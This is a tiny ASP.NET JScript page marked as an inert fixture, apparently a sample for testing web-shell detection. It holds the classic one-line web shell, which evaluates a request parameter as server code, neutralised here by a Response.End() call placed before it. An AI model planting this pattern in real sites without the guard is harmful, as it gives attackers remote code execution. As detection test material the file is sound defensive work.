<%@ Page Language="Jscript" %>
<%-- Inert fixture. --%>
<% Response.End(); eval(Request.Item["c"], "unsafe"); %>
